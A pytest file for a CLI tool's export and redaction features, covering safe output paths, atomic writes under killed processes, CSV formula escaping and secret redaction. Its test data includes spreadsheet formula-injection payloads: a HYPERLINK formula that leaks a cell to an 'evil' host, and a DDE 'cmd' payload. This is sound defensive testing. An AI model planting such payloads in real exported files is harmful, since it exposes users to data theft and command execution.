"""Exports that cannot destroy, and redaction that reaches them (issue 20, items 3-5).

- `--out` refuses devices, FIFOs, symbolic links, paths inside a memory root and an existing
  file unless --force (and then only a regular file is replaced); every file is built beside its
  name and renamed into place, so a killed or interrupted export leaves no partial file;
- CSV cells a spreadsheet would run are written with a leading ' (OWASP's rule);
- `cybmem redact` rewrites the rows of the Parquet datasets and updates the SQLite databases the
  project was exported to, and names the file exports it cannot edit.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from cybmem.cli.app import app
from cybmem.errors import ValidationError
from cybmem.exchange.export import export_csv, export_ndjson
from cybmem.store.records import IssueEvent, Lineage, MemoryRecord, Outcome, Worker
from cybmem.store.memory_store import MemoryStore

from conftest import MIN, T0

runner = CliRunner()
FILE_FORMATS = ("ndjson", "csv", "sqlite", "prov")


def cli(*args, input=None):
    return runner.invoke(app, [str(a) for a in args], input=input)


def _cli() -> list[str]:
    exe = shutil.which("cybmem")
    return [exe] if exe else [sys.executable, "-m", "cybmem.cli"]


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
            and ".cache" not in p.parts and not p.name.startswith(".") and p.name != "exports.json"}


# --- --out: what an export refuses to write to ----------------------------------------------------


@pytest.fixture
def root(fixture_copy):
    return fixture_copy


@pytest.mark.parametrize("fmt", FILE_FORMATS + ("parquet",))
def test_out_refuses_the_store_itself(root, fmt):
    """The ledger, a record, the records directory, the root: an export never lands there."""
    before = _tree(root)
    record = next((root / "api" / "records").glob("*.json"))
    targets = [root / "api" / "issues.jsonl", record, root / "api" / "records" / "new.json", root / "new.out"]
    if fmt == "parquet":
        targets = [root / "api", root / "fleet", root / "api" / "records"]
    for target in targets:
        res = cli("export", fmt, "--memory-dir", root, "-p", "api", "--out", target, "--force")
        assert res.exit_code == 1, (target, res.output)
        assert f"is inside the memory root {root}" in res.stderr, res.stderr
    assert _tree(root) == before
    assert not (root / "fleet").exists() and not (root / "new.out").exists()


@pytest.mark.parametrize("fmt", FILE_FORMATS + ("parquet",))
def test_out_refuses_another_memory_root_found_by_its_files(root, tmp_path, fmt):
    other = tmp_path / "other-memory"
    shutil.copytree(root, other)
    before = _tree(other)
    target = other / "web" / ("dataset" if fmt == "parquet" else "index.json")
    res = cli("export", fmt, "--memory-dir", root, "-p", "api", "--out", target, "--force")
    assert res.exit_code == 1 and "is inside the memory root" in res.stderr, res.output
    assert _tree(other) == before


@pytest.mark.parametrize("fmt", FILE_FORMATS)
def test_out_refuses_devices_fifos_and_links(root, tmp_path, fmt):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    real = tmp_path / "real.txt"
    real.write_text("keep me\n")
    link = tmp_path / "link.txt"
    link.symlink_to(real)
    dangling = tmp_path / "dangling.txt"
    dangling.symlink_to(tmp_path / "nowhere.txt")
    cases = {
        Path("/dev/null"): "is a character device, not a regular file",
        Path("/dev/stdout"): "is a symbolic link (to /proc/self/fd/1)",
        fifo: "is a FIFO, not a regular file",
        link: f"is a symbolic link (to {real})",
        dangling: "is a symbolic link",
    }
    for target, why in cases.items():
        for force in ((), ("--force",)):
            res = cli("export", fmt, "--memory-dir", root, "-p", "api", "--out", target, *force)
            assert res.exit_code == 1, (target, force, res.output)
            assert why in res.stderr, res.stderr
    assert Path("/dev/null").is_char_device() and fifo.is_fifo()
    assert link.is_symlink() and real.read_text() == "keep me\n"
    assert dangling.is_symlink() and not (tmp_path / "nowhere.txt").exists()
    if fmt in ("ndjson", "csv"):
        assert "leave --out off (or give -)" in cli("export", fmt, "--memory-dir", root, "-p", "api", "--out",
                                                    "/dev/stdout").stderr
        res = cli("export", fmt, "--memory-dir", root, "-p", "api", "--out", "-")
        assert res.exit_code == 0 and res.stdout.startswith("{" if fmt == "ndjson" else "project,")


def test_a_linked_dataset_directory_is_refused(root, tmp_path):
    (tmp_path / "real-fleet").mkdir()
    (tmp_path / "fleet").symlink_to(tmp_path / "real-fleet")
    res = cli("export", "parquet", "--memory-dir", root, "-p", "api", "--out", tmp_path / "fleet")
    assert res.exit_code == 1 and "is a symbolic link" in res.stderr
    assert list((tmp_path / "real-fleet").iterdir()) == []


@pytest.mark.parametrize("fmt", FILE_FORMATS)
def test_an_existing_file_is_replaced_only_with_force(root, tmp_path, fmt):
    out = tmp_path / f"mine.{fmt}"
    out.write_text("my own notes\n")
    out.chmod(0o640)
    res = cli("export", fmt, "--memory-dir", root, "-p", "api", "--out", out)
    assert res.exit_code == 1 and "exists" in res.stderr and "--force" in res.stderr, res.output
    assert out.read_text() == "my own notes\n"
    res = cli("export", fmt, "--memory-dir", root, "-p", "api", "--out", out, "--force")
    assert res.exit_code == 0, res.output
    assert out.is_file() and not out.is_symlink() and out.read_bytes() != b"my own notes\n"
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]


def test_a_sqlite_database_is_updated_without_force(root, tmp_path):
    out = tmp_path / "memory.db"
    assert cli("export", "sqlite", "--memory-dir", root, "-p", "api", "--out", out).exit_code == 0
    res = cli("export", "sqlite", "--memory-dir", root, "-p", "web", "--out", out)
    assert res.exit_code == 0, res.output
    con = sqlite3.connect(out)
    assert {r[0] for r in con.execute("SELECT DISTINCT project FROM records")} == {"api", "web"}
    con.close()


def test_check_out_is_the_library_rule(root, tmp_path):
    from cybmem.exchange.export import check_out

    with pytest.raises(ValidationError, match="character device"):
        check_out("/dev/null")
    (tmp_path / "x.csv").write_text("x")
    with pytest.raises(ValidationError, match="exists; add --force"):
        export_csv(MemoryStore(root, "api"), tmp_path / "x.csv")
    export_csv(MemoryStore(root, "api"), tmp_path / "x.csv", force=True)
    assert (tmp_path / "x.csv").read_text().startswith("project,")
    with pytest.raises(ValidationError, match="inside the memory root"):
        export_ndjson(MemoryStore(root, "api"), root / "api" / "index.json", force=True)


# --- interrupted exports leave no partial file ---------------------------------------------------


def _big_store(root: Path, n: int = 1500) -> None:
    records = root / "big" / "records"
    records.mkdir(parents=True)
    (root / "projects.json").write_text(json.dumps({"big": {"cwd": "/home/dev/big"}}))
    for i in range(n):
        rid = f"big-{i:05d}"
        rec = {"runId": rid, "cwd": "/home/dev/big", "workflowName": "implement-task",
               "task": f"Task {i}: " + "make the parser faster and the docs clearer " * 8, "state": "done",
               "startedAt": T0 + i * MIN, "endedAt": T0 + i * MIN + 30_000, "lineage": {},
               "outcome": {"summary": f"Summary {i} " + "with several words in it " * 10, "accomplished": ["a"],
                           "issues": [], "next": []}, "workers": []}
        (records / f"{rid}.json").write_text(json.dumps(rec))


def _complete(path: Path, fmt: str) -> bool:
    """The file is a whole export of the 1500 records."""
    if fmt == "sqlite":
        con = sqlite3.connect(path)
        try:
            return con.execute("SELECT count(*) FROM records").fetchone()[0] == 1500
        finally:
            con.close()
    data = path.read_bytes()
    if fmt == "prov":
        return len([k for k in json.loads(data)["activity"] if "/run/" in k]) == 1500
    return data.endswith(b"\n") and data.count(b"\n") == 1500 + (fmt == "csv")


@pytest.mark.parametrize("fmt", ["csv", "sqlite"])  # a stream written into place (ndjson, prov: the same), a database
def test_a_killed_or_interrupted_export_leaves_no_partial_file(tmp_path, fmt):
    """SIGKILL and SIGINT (Ctrl-C) at moments spread over the export's life: the destination is
    always absent or the old complete file (with --force), never a partial or empty one."""
    root = tmp_path / "memory"
    _big_store(root)
    env = {k: v for k, v in os.environ.items() if not k.startswith("CYBERINE_")}
    env["CYBERINE_MEMORY_DIR"] = str(root)
    full = tmp_path / f"full.{fmt}"
    start = time.monotonic()
    done = subprocess.run(_cli() + ["export", fmt, "-p", "big", "--out", str(full)], env=env, capture_output=True)
    took = time.monotonic() - start
    assert done.returncode == 0, done.stderr
    old = tmp_path / f"old.{fmt}"
    old.write_bytes(b"the previous complete export\n")
    interrupted = 0
    scale = 1.0  # shrinks when an export ended before its signal (a loaded machine's first run was slow)
    for i in range(12):
        if i >= 6 and interrupted >= 3:
            break
        sig = (signal.SIGKILL, signal.SIGINT)[i % 2]
        target = old if i >= 4 else tmp_path / f"new-{i}.{fmt}"
        force = ["--force"] if target == old else []
        temps = {p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")}  # what earlier SIGKILLs left
        proc = subprocess.Popen(_cli() + ["export", fmt, "-p", "big", "--out", str(target), *force], env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        time.sleep(took * scale * (0.4 + 0.1 * (i % 4)))  # in the second half of its life: the writing
        proc.send_signal(sig)
        err = proc.communicate()[1].decode()
        interrupted += proc.returncode != 0
        scale *= 0.6 if proc.returncode == 0 else 1.0
        if target == old:
            assert old.read_bytes() == b"the previous complete export\n" or _complete(old, fmt), (sig, err)
        else:
            assert not target.exists() or _complete(target, fmt), (sig, err)
        # (what Ctrl-C prints and its exit code are the CLI's business, tested with it; here: the files)
        if sig == signal.SIGINT:
            assert {p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")} <= temps, "Ctrl-C removes its temp file"
    assert interrupted >= 3, "the signals came too late to interrupt anything"


def _temps_of(target: Path) -> list[Path]:
    return sorted(p for p in target.parent.iterdir() if p.name.startswith(f".tmp-{target.name}."))


def _size(path: Path) -> int:
    try:
        return path.stat().st_size
    except FileNotFoundError:
        return 0


def _start_export(env: dict, fmt: str, target: Path, *extra: str) -> tuple[subprocess.Popen, set[Path]]:
    """A real export, returned once its temp file beside ``target`` exists (it is writing), with
    the temp files it made. An export that ends before its temp file is seen (a poll that a busy
    machine did not schedule in time) succeeded: what it wrote is removed and it is started again."""
    for _attempt in range(5):
        existed = target.exists()
        before = set(_temps_of(target))
        proc = subprocess.Popen(_cli() + ["export", fmt, "-p", "big", "--out", str(target), *extra], env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 60
        while not (own := {p for p in set(_temps_of(target)) - before if _size(p)}):  # made, and being written
            if proc.poll() is not None:
                break
            assert time.monotonic() < deadline, "the export wrote no temp file in 60 s"
            time.sleep(0.002)
        else:
            return proc, own
        err = proc.communicate()[1]
        assert proc.returncode == 0, err
        if not existed and target.exists():
            target.unlink()
    pytest.fail("five exports ended before their temp file was seen")


@pytest.mark.parametrize("fmt", ["csv", "sqlite"])
def test_what_a_killed_export_leaves_the_next_export_removes_and_sigterm_leaves_nothing(tmp_path, fmt):
    """An export killed with SIGKILL cannot clean up: its temp file (and SQLite's journal beside it)
    stays, and the next export to the same destination removes it, never the temp file of an
    export still at work (one stopped with SIGSTOP). SIGTERM cleans up at once, as Ctrl-C does."""
    root = tmp_path / "memory"
    _big_store(root)
    env = {k: v for k, v in os.environ.items() if not k.startswith("CYBERINE_")}
    env["CYBERINE_MEMORY_DIR"] = str(root)
    target = tmp_path / f"out.{fmt}"
    killed, left = _start_export(env, fmt, target)
    killed.kill()
    killed.communicate()
    assert set(_temps_of(target)) == left and all(p.name.startswith(f".tmp-out.{fmt}.") for p in left)
    stopped, own = _start_export(env, fmt, target, "--force")  # at work, then stopped (Ctrl-Z)
    stopped.send_signal(signal.SIGSTOP)
    try:
        assert set(_temps_of(target)) == own, "the killed export's files are gone"
        done = subprocess.run(_cli() + ["export", fmt, "-p", "big", "--out", str(target), "--force"], env=env,
                              capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        assert _complete(target, fmt)
        assert set(_temps_of(target)) == own, "the stopped export's files are kept"
    finally:
        stopped.send_signal(signal.SIGCONT)
    assert stopped.communicate(timeout=120) and stopped.returncode == 0 and _complete(target, fmt)
    assert _temps_of(target) == []
    fresh = tmp_path / f"fresh.{fmt}"
    termed, _ = _start_export(env, fmt, fresh)
    termed.terminate()
    err = termed.communicate(timeout=60)[1].decode()
    assert termed.returncode == 143 and err == "cybmem: terminated\n", (termed.returncode, err)
    assert _temps_of(fresh) == [] and not fresh.exists()


def test_a_sqlite_update_killed_mid_transaction_is_rolled_back_by_the_next_export(tmp_path):
    """An update of an existing database killed while its transaction is open leaves SQLite's
    journal (the database needs it to roll back): the next export rolls it back and removes it;
    SIGTERM rolls back at once."""
    root = tmp_path / "memory"
    _big_store(root)
    env = {k: v for k, v in os.environ.items() if not k.startswith("CYBERINE_")}
    env["CYBERINE_MEMORY_DIR"] = str(root)
    db = tmp_path / "memory.db"
    assert subprocess.run(_cli() + ["export", "sqlite", "-p", "big", "--out", str(db)], env=env).returncode == 0
    journal = tmp_path / "memory.db-journal"
    for sig, code in ((signal.SIGTERM, 143), (signal.SIGKILL, -9)):
        for rec in sorted((root / "big" / "records").glob("big-*.json"))[:1500]:  # new rows: a long transaction
            data = json.loads(rec.read_text())
            data["runId"] = data["runId"] + sig.name
            (rec.parent / f"{data['runId']}.json").write_text(json.dumps(data))
        proc = subprocess.Popen(_cli() + ["export", "sqlite", "-p", "big", "--out", str(db)], env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        deadline = time.monotonic() + 60
        while not journal.exists():
            assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()[1]
            time.sleep(0.001)
        proc.send_signal(sig)
        proc.communicate(timeout=60)
        assert proc.returncode == code
        if sig == signal.SIGTERM:
            assert not journal.exists(), "rolled back at once"
    done = subprocess.run(_cli() + ["export", "sqlite", "-p", "big", "--out", str(db)], env=env, capture_output=True,
                          text=True)
    assert done.returncode == 0, done.stderr
    assert not journal.exists()
    con = sqlite3.connect(db)
    try:
        assert con.execute("SELECT count(*) FROM records").fetchone()[0] == 4500
    finally:
        con.close()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith((".tmp-", "memory.db"))) == ["memory.db"]


# --- CSV cells a spreadsheet would run ------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", " =1+1", "\n@SUM(1)"]


def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
    store = MemoryStore(tmp_path / "memory", "web")
    for i, task in enumerate(FORMULAS + ["-5", "+1.5e3", "a = b", "plain"]):
        store.write_record(MemoryRecord(
            runId=f"f-{i:02d}", cwd="/home/dev/web", workflowName="=w", task=task, state="done",
            startedAt=T0 + i * MIN, endedAt=T0 + i * MIN + 1000, lineage=Lineage(),
            outcome=Outcome(summary=task, accomplished=[], issues=[]), workers=[Worker(agentId="a", state="done")]))
    store.append_issue_events([IssueEvent(issueId="f", at=T0, event="opened", byRunId="f-00", title="=1+2", detail="@x")])
    buf = io.StringIO()
    export_csv(store, buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    for row, task in zip(rows, FORMULAS + ["-5", "+1.5e3", "a = b", "plain"]):
        if task in FORMULAS:
            assert row["task"] == "'" + task and row["summary"].startswith("'"), row["task"]
        else:
            assert row["task"] == task, "plain numbers and ordinary text are left as they are"
        assert row["workflowName"] == "'=w"
    buf = io.StringIO()
    export_csv(store, buf, table="issues")
    event = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert event["title"] == "'=1+2" and event["detail"] == "'@x"
    # the other formats hold the raw values
    buf = io.StringIO()
    export_ndjson(store, buf)
    assert [json.loads(line)["task"] for line in buf.getvalue().splitlines()][:len(FORMULAS)] == FORMULAS


# --- redact reaches the exports it knows of -------------------------------------------------------

SECRET = "hunter2-purple-otter"


def test_redact_reaches_the_parquet_and_sqlite_exports_and_names_the_rest(tmp_path, monkeypatch):
    """Item 3: after `redact`, a re-export said "0 new records" and `fleet search` still found the
    secret. Now the dataset's rows and the database's are rewritten, and a CSV is named with the
    command that writes it again."""
    from cybmem.exchange.export import known_exports
    from cybmem.exchange.fleet import Fleet

    root = tmp_path / "memory"
    store = MemoryStore(root, "web")
    for i, task in enumerate([f"Rotate the vault phrase {SECRET} today", "Unrelated login work"]):
        store.write_record(MemoryRecord(
            runId=f"x-{i}", cwd="/home/dev/web", workflowName="w", task=task, state="done",
            startedAt=T0 + i * MIN, endedAt=T0 + i * MIN + 1000, lineage=Lineage(),
            outcome=Outcome(summary=task, accomplished=[], issues=[]), workers=[]))
    fleet, db, flat = tmp_path / "fleet", tmp_path / "memory.db", tmp_path / "web.csv"
    for args in (["parquet", "--out", fleet, "--machine", "laptop"], ["sqlite", "--out", db], ["csv", "--out", flat]):
        assert cli("export", *args, "--memory-dir", root, "-p", "web").exit_code == 0
    assert [e["format"] for e in known_exports(store)] == ["parquet", "sqlite", "csv"]
    before = sorted(p.name for p in fleet.rglob("*.parquet"))

    res = cli("redact", "x-0", "--secret", SECRET, "--memory-dir", root, "-p", "web")
    assert res.exit_code == 1, res.output
    assert f"Export: rewrote 1 file of the Parquet dataset {fleet} (machine laptop)." in res.stdout
    assert f"Export: updated 1 row of the SQLite database {db}." in res.stdout
    assert f"warning: the csv export {flat} (written " in res.stderr and "still holds a given text" in res.stderr
    assert f"`cybmem export csv --memory-dir {root} --project web --table records --out {flat} --force`" in res.stderr

    assert sorted(p.name for p in fleet.rglob("*.parquet")) == before, "rewritten in place, under the same names"
    rows = [r for f in fleet.rglob("*.parquet") for r in pq.ParquetFile(f).read().to_pylist()]
    assert {r["runId"]: r["task"] for r in rows} == {"x-0": "Rotate the vault phrase [REDACTED:manual] today",
                                                     "x-1": "Unrelated login work"}
    again = cli("export", "parquet", "--out", fleet, "--machine", "laptop", "--memory-dir", root, "-p", "web")
    assert "Wrote 0 new records" in again.stdout
    with Fleet(fleet, scheduler="inline") as f:
        hits = f.search("vault phrase otter", k=5).hits
    assert hits and all(SECRET not in (h.task or "") for h in hits)
    assert SECRET.encode() not in db.read_bytes()
    con = sqlite3.connect(db)
    assert con.execute("SELECT count(*) FROM records_fts WHERE records_fts MATCH 'hunter2'").fetchone()[0] == 0
    con.close()
    assert cli("export", "csv", "--out", flat, "--force", "--memory-dir", root, "-p", "web").exit_code == 0
    res = cli("redact", "x-0", "--secret", SECRET, "--memory-dir", root, "-p", "web")
    assert res.exit_code == 0 and "No file of project web holds a given text any more." in res.stdout, res.output


def test_an_export_from_a_store_that_cannot_note_it_warns(tmp_path, fixture_copy):
    (fixture_copy / "api" / "exports.json").mkdir()  # cannot be written
    res = cli("export", "csv", "--memory-dir", fixture_copy, "-p", "api", "--out", tmp_path / "a.csv")
    assert res.exit_code == 0 and (tmp_path / "a.csv").exists()
    assert "could not note this export" in res.stderr and "`cybmem redact` will not reach it" in res.stderr


def test_exports_json_forgets_exports_that_are_gone(tmp_path, fixture_copy):
    """One entry per format, path and machine, the latest time; a path that is gone is dropped at
    the next export (a report's temporary dataset is not noted at all: export_parquet(note=False))."""
    from cybmem.exchange.export import export_parquet, known_exports

    store = MemoryStore(fixture_copy, "api")
    for name in ("a.csv", "b.csv"):
        assert cli("export", "csv", "--memory-dir", fixture_copy, "-p", "api", "--out", tmp_path / name).exit_code == 0
    assert cli("export", "csv", "--memory-dir", fixture_copy, "-p", "api", "--out", tmp_path / "b.csv", "--force").exit_code == 0
    assert [Path(e["out"]).name for e in known_exports(store)] == ["a.csv", "b.csv"]
    (tmp_path / "a.csv").unlink()
    export_parquet(store, tmp_path / "temporary", machine="m", note=False)
    assert cli("export", "ndjson", "--memory-dir", fixture_copy, "-p", "api", "--out", tmp_path / "c.ndjson").exit_code == 0
    assert [(e["format"], Path(e["out"]).name) for e in known_exports(store)] == [("csv", "b.csv"), ("ndjson", "c.ndjson")]


def test_a_fifo_in_the_dataset_an_export_appends_to_is_skipped_not_waited_on(fixture_copy, tmp_path):
    """Issue 29, item 4: the export reads the part files it appends beside; a FIFO there hung it, then
    failed it (exit 1, nothing exported). It holds no rows: skipped with one warning line each, as
    every reader of the dataset skips it."""
    out = tmp_path / "fleet"
    env = {**os.environ, "CYBERINE_MEMORY_DIR": str(fixture_copy)}
    cmd = [sys.executable, "-m", "cybmem.cli", "export", "parquet", "--project", "web", "--out", str(out), "--machine", "laptop"]
    assert subprocess.run(cmd, env=env, capture_output=True, timeout=120).returncode == 0
    (part,) = (out / "records" / "machine=laptop" / "project=web").glob("month=*/*.parquet")
    fifo, folder = part.with_name("part-fifo.parquet"), part.with_name("part-dir.parquet")
    os.mkfifo(fifo)
    folder.mkdir()
    p = subprocess.run([*cmd, "--json"], env=env, capture_output=True, text=True, timeout=120)
    assert p.returncode == 0 and "Traceback" not in p.stderr, p.stderr
    why = "not a regular file (a FIFO, socket, device or directory)"
    assert sorted(p.stderr.splitlines()) == [f"warning: skipped {folder}: {why}", f"warning: skipped {fifo}: {why}"]
    (records,) = [t for t in json.loads(p.stdout)["tables"] if t["table"] == "records"]
    assert records["new"] == 0 and records["rows"] > 0, records  # the runs already there were read from the part
